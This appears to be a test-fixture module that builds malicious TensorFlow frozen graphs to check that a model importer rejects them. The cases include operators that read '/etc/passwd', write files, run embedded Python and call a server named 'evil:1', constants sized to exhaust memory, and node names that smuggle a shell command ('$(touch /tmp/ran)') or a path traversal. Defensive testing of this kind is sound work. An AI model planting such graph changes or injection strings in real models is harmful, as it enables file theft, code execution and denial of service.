"""Hostile frozen graphs: operators that touch files and run Python, constants that fill memory."""

from __future__ import annotations

from pathlib import Path

from hostile_archive import witness

KIND, SUFFIX = "frozen_graph", ".pb"
HUGE = 2**40
_KEPT: list[bytes] = []


def sound(path: Path) -> None:
    if not _KEPT:
        import numpy as np
        import tensorflow as tf

        with tf.Graph().as_default() as graph:
            image = tf.compat.v1.placeholder(tf.float32, (1, 16, 16, 3), "image")
            kernel = np.ones((3, 3, 3, 4), np.float32)
            scores = tf.nn.relu(tf.nn.conv2d(image, kernel, 1, "SAME", name="layer"))
            tf.identity(scores, "scores")
        _KEPT.append(graph.as_graph_def().SerializeToString())
    path.write_bytes(_KEPT[0])


def load(file: Path, found) -> None:
    import numpy as np

    from int8gate.model_zoo.importers.tf1.importer import import_frozen_graph

    shape = [side or 1 for side in found.inputs[0].shape]
    samples = np.zeros((2, *shape[1:]), np.float32)
    import_frozen_graph(file, file.parent / "imported", samples)


def changed(change):
    """A case: the graph, changed in place."""

    def write(path: Path) -> None:
        import tensorflow as tf

        sound(path)
        graph = tf.compat.v1.GraphDef.FromString(path.read_bytes())
        change(graph, path)
        path.write_bytes(graph.SerializeToString())

    return write


def node(graph, name: str):
    return next(node for node in graph.node if node.name == name)


def const(graph, name: str, value):
    import numpy as np
    import tensorflow as tf

    made = graph.node.add(name=name, op="Const")
    tensor = tf.make_tensor_proto(value)
    made.attr["value"].tensor.CopyFrom(tensor)
    made.attr["dtype"].type = tensor.dtype
    return np.shape(value)


def add_operator(graph, operator: str, *texts: str, **attributes) -> None:
    """An operator on constant texts, which must run before the scores are there."""
    evil = graph.node.add(name="evil", op=operator)
    for number, text in enumerate(texts):
        const(graph, f"text_{number}", text)
        evil.input.append(f"text_{number}")
    for name, value in attributes.items():
        if isinstance(value, bytes):
            evil.attr[name].s = value
        elif isinstance(value, list):
            evil.attr[name].list.type.extend(value)
        else:
            evil.attr[name].type = value
    node(graph, "scores").input.append("^evil")


def _operator(operator: str, *texts: str, **attributes):
    def change(graph, path: Path) -> None:
        written = [text.replace("{witness}", str(witness(path))) for text in texts]
        add_operator(graph, operator, *written, **attributes)

    return changed(change)


def _python(operator: str):
    def change(graph, path: Path) -> None:
        evil = graph.node.add(name="evil", op=operator, input=["image"])
        evil.attr["token"].s = b"pyfunc_0"
        evil.attr["Tin"].list.type.extend([1])
        evil.attr["Tout"].list.type.extend([1])
        node(graph, "scores").input[0] = "evil"

    return changed(change)


def _splat(graph, path: Path) -> None:
    """A constant of 4 TB, said by one value."""
    kernel = next(n for n in graph.node if n.op == "Const" and n.attr["value"].tensor.tensor_shape)
    tensor = kernel.attr["value"].tensor
    tensor.ClearField("tensor_content")
    del tensor.float_val[:]
    tensor.float_val.append(1.0)
    tensor.tensor_shape.dim[3].size = HUGE


def _filled(graph, path: Path) -> None:
    """Constants whose product is filled when they are folded."""
    import numpy as np

    const(graph, "sides", np.array([2**15, 2**15, 16], np.int32))
    const(graph, "value", np.float32(1))
    fill = graph.node.add(name="fill", op="Fill", input=["sides", "value"])
    fill.attr["T"].type, fill.attr["index_type"].type = 1, 3
    const(graph, "axes", np.array([0, 1, 2], np.int32))
    mean = graph.node.add(name="mean", op="Mean", input=["fill", "axes"])
    mean.attr["T"].type, mean.attr["Tidx"].type = 1, 3
    total = graph.node.add(name="total", op="AddV2", input=[node(graph, "scores").input[0], "mean"])
    total.attr["T"].type = 1
    node(graph, "scores").input[0] = "total"


def _placeholder(*sides: int):
    def change(graph, path: Path) -> None:
        for dim, side in zip(node(graph, "image").attr["shape"].shape.dim, sides, strict=True):
            dim.size = side

    return changed(change)


def _function(graph, path: Path) -> None:
    """The writing operator stands in a function, which a node calls."""
    function = graph.library.function.add()
    function.signature.name = "evil_function"
    inner = type(graph)()
    const(inner, "name", str(witness(path)))
    const(inner, "content", "x")
    for constant in inner.node:
        function.node_def.append(constant)
    write = function.node_def.add(name="write", op="WriteFile")
    write.input.extend(["name:output:0", "content:output:0"])
    call = graph.node.add(name="call", op="StatefulPartitionedCall")
    call.attr["f"].func.name = "evil_function"
    call.attr["Tin"].list.SetInParent()
    call.attr["Tout"].list.SetInParent()
    node(graph, "scores").input.append("^call")


def _named(name: str):
    def change(graph, path: Path) -> None:
        for each in graph.node:
            for number, edge in enumerate(each.input):
                each.input[number] = name if edge == "image" else edge
        node(graph, "image").name = name

    return changed(change)


def _circle(graph, path: Path) -> None:
    node(graph, "layer").input[0] = "scores"


def _endless(graph, path: Path) -> None:
    graph.node.extend([node(graph, "image")] * 2)


STRING = 7
SPECIAL = {
    "writes-file": _operator("WriteFile", "{witness}", "x"),
    "reads-file": _operator("ReadFile", "/etc/passwd"),
    "lists-files": _operator("MatchingFiles", "/etc/*"),
    "prints-to-file": _operator("PrintV2", "x", output_stream=b"file:///tmp/hostile"),
    "saves": _operator("SaveV2", "{witness}", "name", "", dtypes=[STRING]),
    "restores": _operator("RestoreV2", "/etc/passwd", "name", "", dtypes=[1]),
    "merges-checkpoints": _operator("MergeV2Checkpoints", "/etc/passwd", "{witness}"),
    "table-from-file": _operator("InitializeTableFromTextFileV2", "/etc/passwd"),
    "reads-lines": _operator("TextLineDataset", "/etc/passwd", "", ""),
    "constant-of-file": _operator("ImmutableConst", memory_region_name=b"/etc/passwd", dtype=1),
    "aborts": _operator("Abort", error_msg=b"gone"),
    "sends": _operator("DebugIdentityV2", "x", debug_urls=[STRING]),
    "summary-file": _operator("CreateSummaryFileWriter", "{witness}"),
    "calls-server": _operator("RpcClient", "evil:1", "x"),
    "python": _python("PyFunc"),
    "python-stateless": _python("PyFuncStateless"),
    "python-eager": _python("EagerPyFunc"),
    "unknown-operator": _operator("NoSuchOperator"),
    "in-a-function": changed(_function),
    "constant-huge": changed(_splat),
    "fills": changed(_filled),
    "input-huge": _placeholder(1, 2**20, 2**20, 3),
    "input-wraps": _placeholder(2**32, 2**32, 2**32, 3),
    "input-negative": _placeholder(-9, 16, 16, 3),
    "named-shell": _named("$(touch /tmp/ran)"),
    "named-path": _named("../../outside/ran"),
    "named-lines": _named('a"\n[models.evil]\x1b[31m'),
    "circle": changed(_circle),
    "node-twice": changed(_endless),
}
